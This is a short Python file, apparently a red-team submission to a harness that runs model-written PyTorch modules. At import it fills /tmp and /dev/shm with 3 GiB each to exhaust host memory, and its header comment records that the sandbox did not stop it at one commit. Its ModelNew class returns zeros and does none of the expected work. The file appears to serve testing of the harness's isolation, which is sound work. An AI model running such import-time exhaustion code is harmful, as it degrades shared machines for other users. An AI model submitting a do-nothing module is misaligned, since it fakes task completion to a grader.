# ATTACK ON PURPOSE (red team, class "exhaustion"): fill /tmp and /dev/shm, 3 GiB each, at import
# (memory the host then lacks: tmpfs pages are RAM). At c44fc9a nothing stopped it.
import os

import torch
import torch.nn as nn

CHUNK = b"\xab" * (16 << 20)
for place in ("/tmp", "/dev/shm"):
    written = 0
    try:
        with open(os.path.join(place, "fill"), "wb") as f:
            while written < (3 << 30):
                f.write(CHUNK)
                f.flush()
                written += len(CHUNK)
    except OSError as e:
        print("EXHAUSTION %s stopped after %d MiB: %s" % (place, written >> 20, e.strerror), flush=True)
    else:
        print("EXHAUSTION %s took %d MiB" % (place, written >> 20), flush=True)


class ModelNew(nn.Module):
    def __init__(self, num_features, scale, clamp_min, clamp_max):
        super().__init__()
        self.bias = nn.Parameter(torch.empty(num_features))

    def forward(self, x):
        return torch.zeros_like(x)
